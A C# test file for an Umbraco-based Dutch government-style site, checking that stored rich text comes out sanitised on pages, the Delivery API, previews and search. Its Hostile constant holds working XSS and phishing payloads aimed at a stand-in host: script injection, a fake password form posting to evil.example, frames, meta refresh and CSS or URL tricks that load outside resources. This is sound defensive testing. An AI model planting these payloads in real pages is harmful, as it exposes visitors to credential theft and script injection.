using System.Text.Json;
using PubliekeVeranderaars.Core.Backoffice;
using PubliekeVeranderaars.Core.Content;

namespace PubliekeVeranderaars.Web.Tests.Content;

/// <summary>
/// Rich text reaches visitors, previews, headless front ends and search results clean, whatever form it was stored in:
/// the markup itself, or Umbraco's JSON object around it.
/// </summary>
public sealed class RichTextOutputTests(RichTextOutputTests.PreviewSiteFixture fixture) : IClassFixture<RichTextOutputTests.PreviewSiteFixture>
{
    /// <summary>A site with a Delivery API key, so the API's preview is one of the surfaces.</summary>
    public sealed class PreviewSiteFixture : IDisposable
    {
        public const string ApiKey = "een-lange-geheime-sleutel-voor-voorbeelden";
        public SiteHost Site { get; } = new(Core.Storage.DatabaseProvider.Sqlite, new Dictionary<string, string?> { ["DeliveryApi:ApiKey"] = ApiKey });
        public void Dispose() => Site.Dispose();
    }

    private static readonly Guid Privacy = Guid.Parse("14d4e16e-f59e-58a0-8436-e950aba62138");
    private readonly SiteHost _site = fixture.Site;

    /// <summary>
    /// What of <see cref="Hostile"/> must never come out: script, event handlers, forms and inputs, frames, embedded
    /// objects, foreign resources. (The pages' own search form and scripts are not the rich text's.)
    /// </summary>
    private static readonly string[] Forbidden =
    [
        "onerror", "alert(", "evil.example", "tracker.example", "type=\"password\"", "name=\"pw\"", "Inloggen</button>",
        "<select name=\"s\"", "<textarea name=\"t\"", "<iframe", "<object", "<embed", "<base", "http-equiv",
    ];

    private const string Hostile =
        "<img src=x onerror=alert(1)><script>alert(2)</script>" +
        "<form action=\"https://evil.example/steal\"><input type=\"password\" name=\"pw\"><button>Inloggen</button>" +
        "<select name=\"s\"><option>a</option></select><textarea name=\"t\">x</textarea></form>" +
        "<iframe src=\"https://evil.example\"></iframe><object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/y\">" +
        "<base href=\"https://evil.example/\"><meta name=\"x\" http-equiv=\"refresh\" content=\"0;url=https://evil.example\">" +
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\"><img src=\"https://tracker.example/pixel.gif\" alt=\"\">" +
        // Browsers drop tabs and newlines from addresses and read "\\" as "/": these are all other sites.
        "<img src=\"/&#9;/evil.example/a.gif\" alt=\"\"><img src=\"/\n/evil.example/b.gif\" alt=\"\"><img src=\"/\\evil.example/c.gif\" alt=\"\">" +
        "<img src=\"/media/eigen.jpg\" srcset=\"https://evil.example/d.jpg 2x\" alt=\"\">" +
        "<p style=\"background-image: url(https://evil.example/e.gif)\">Achtergrond</p>" +
        "<p style=\"background-image:image-set('https://evil.example/g.png' 1x)\">Set</p><p style=\"cursor: -webkit-image-set('//evil.example/h.png' 1x), auto\">Muis</p>" +
        "<p style=\"border-image-source: cross-fade(url(https://evil.example/i.png), red)\">Rand</p><p style=\"mask-image: image('https://evil.example/j.png')\">Masker</p>" +
        "<p style=\"background: image-set(&quot;https://evil.example/k.png&quot; 1x)\">Kort</p><ul style=\"list-style-image:url('//evil.example/f.gif')\"><li>punt</li></ul>";

    private async Task PublishPrivacyBodyAsync(string stored)
    {
        var content = new SiteContent(_site);
        var version = await content.GetLatestVersionAsync(Privacy);
        var values = version!.Values.Where(v => v.Alias != "body").Append(new ContentPropertyValue("body", null, stored)).ToList();
        Assert.True((await content.SaveAsync(Privacy, version.Name, values, "import")).Succeeded);
        Assert.True((await content.PublishAsync(Privacy)).Succeeded);
    }

    private async Task<IReadOnlyList<(string Surface, string Output)>> SurfacesAsync(string marker)
    {
        using var visitor = _site.CreateHttpClient();
        using var editor = await BackofficeUsers.LoginAsync(_site, await BackofficeUsers.CreateAsync(_site, BackofficeRoles.Editor));
        var api = JsonDocument.Parse(await visitor.GetStringAsync($"/umbraco/delivery/api/v2/content/item/{Privacy}"));
        var markup = api.RootElement.GetProperty("properties").GetProperty("body").GetProperty("markup").GetString()!;
        using var previewRequest = new HttpRequestMessage(HttpMethod.Get, $"/umbraco/delivery/api/v2/content/item/{Privacy}");
        previewRequest.Headers.Add("Preview", "true");
        previewRequest.Headers.Add("Api-Key", PreviewSiteFixture.ApiKey);
        var preview = JsonDocument.Parse(await (await visitor.SendAsync(previewRequest)).Content.ReadAsStringAsync());
        var shared = await Backoffice.PreviewLinksTests.ShareAsync(editor, Privacy);
        return
        [
            ("page", await visitor.GetStringAsync("/privacy/")),
            ("delivery api", markup),
            ("delivery api preview", preview.RootElement.GetProperty("properties").GetProperty("body").GetProperty("markup").GetString()!),
            ("shared preview link", await visitor.GetStringAsync(new Uri(shared).PathAndQuery)),
            ("back-office preview", await editor.GetStringAsync($"/backoffice/inhoud/{Privacy}/voorbeeld")),
            ("search", await visitor.GetStringAsync("/zoeken/?q=" + marker)),
        ];
    }

    [Fact]
    public async Task Rich_text_stored_in_umbracos_json_form_comes_out_sanitised_everywhere()
    {
        var marker = "zuivering" + Guid.NewGuid().ToString("N")[..8];
        await PublishPrivacyBodyAsync(JsonSerializer.Serialize(new { markup = $"<p>{marker} tekst</p>" + Hostile, blocks = (object?)null }));

        foreach (var (surface, output) in await SurfacesAsync(marker))
        {
            Assert.True(output.Contains(marker, StringComparison.Ordinal), $"{surface} lost the text");
            foreach (var forbidden in Forbidden) Assert.False(output.Contains(forbidden, StringComparison.OrdinalIgnoreCase), $"{surface} has {forbidden}");
        }
    }

    [Fact]
    public async Task A_block_in_rich_text_comes_out_of_the_api_in_umbracos_shape_and_on_the_page_as_its_texts_all_cleaned()
    {
        var marker = "blok" + Guid.NewGuid().ToString("N")[..8];
        var block = Guid.NewGuid();
        // A page's type serves as the block's element type here: the seed has no element types.
        const string principleType = "e20d14cc-d758-58af-8d70-33198e807924";
        var stored = JsonSerializer.Serialize(new
        {
            markup = $"<p>{marker} voor</p><umb-rte-block data-content-key=\"{block}\" onclick=\"alert(1)\"><!--Umbraco-Block--><script>alert(2)</script></umb-rte-block>",
            blocks = new
            {
                contentData = new[] { new { contentTypeKey = principleType, key = block, values = new[]
                {
                    new { alias = "title", value = $"{marker} titel" },
                    new { alias = "text", value = "<img src=x onerror=alert(3)>gewone tekst" },
                } } },
                settingsData = Array.Empty<object>(),
                Layout = new Dictionary<string, object[]> { ["Umbraco.RichText"] = [new { contentKey = block, settingsKey = (Guid?)null }] },
            },
        });
        await PublishPrivacyBodyAsync(stored);

        using var visitor = _site.CreateHttpClient();
        var body = JsonDocument.Parse(await visitor.GetStringAsync($"/umbraco/delivery/api/v2/content/item/{Privacy}"))
            .RootElement.GetProperty("properties").GetProperty("body");
        Assert.Equal($"<p>{marker} voor</p><umb-rte-block data-content-id=\"{block}\"></umb-rte-block>", body.GetProperty("markup").GetString());
        var content = body.GetProperty("blocks")[0].GetProperty("content");
        Assert.Equal("principle", content.GetProperty("contentType").GetString());
        Assert.Equal(block.ToString(), content.GetProperty("id").GetString());
        Assert.Equal($"{marker} titel", content.GetProperty("properties").GetProperty("title").GetString());
        Assert.Equal(JsonValueKind.Null, body.GetProperty("blocks")[0].GetProperty("settings").ValueKind);
        Assert.DoesNotContain("alert(", body.GetRawText());

        // The page shows the block's texts where it sits (this site has no view per element type, as Umbraco would need).
        var page = await visitor.GetStringAsync("/privacy/");
        Assert.Contains($"<p>{marker} voor</p><div><p class=\"utrecht-paragraph\">{marker} titel</p>", page);
        Assert.DoesNotContain("Umbraco-Block", page);
        Assert.DoesNotContain("alert(", page);
    }

    [Fact]
    public async Task Stored_json_that_names_a_property_twice_is_shown_as_text_not_a_server_error()
    {
        var marker = "dubbel" + Guid.NewGuid().ToString("N")[..8];
        // Valid JSON that System.Text.Json refuses only when the object is first used.
        await PublishPrivacyBodyAsync($"{{\"markup\":\"<p>{marker}</p>\",\"markup\":\"<p>{marker} twee</p>\",\"blocks\":null}}");

        foreach (var (surface, output) in await SurfacesAsync(marker))
            Assert.True(output.Contains(marker, StringComparison.Ordinal), $"{surface} lost the text");
    }

    [Fact]
    public async Task Rich_text_markup_loses_forms_frames_embedded_objects_and_outside_images_but_keeps_its_own()
    {
        var marker = "opgeschoond" + Guid.NewGuid().ToString("N")[..8];
        await PublishPrivacyBodyAsync($"<h2>Kop</h2><p><strong>{marker}</strong> <a href=\"https://www.rijksoverheid.nl/\">link</a></p>" + Hostile +
                                      "<p><img src=\"/media/portret.jpg\" alt=\"Portret\"></p>");

        foreach (var (surface, output) in await SurfacesAsync(marker))
        {
            foreach (var forbidden in Forbidden) Assert.False(output.Contains(forbidden, StringComparison.OrdinalIgnoreCase), $"{surface} has {forbidden}");
            if (surface == "search") continue;
            Assert.Contains($"<strong>{marker}</strong>", output);
            Assert.Contains("href=\"https://www.rijksoverheid.nl/\"", output);
            Assert.Contains("src=\"/media/portret.jpg\"", output);
        }
    }
}
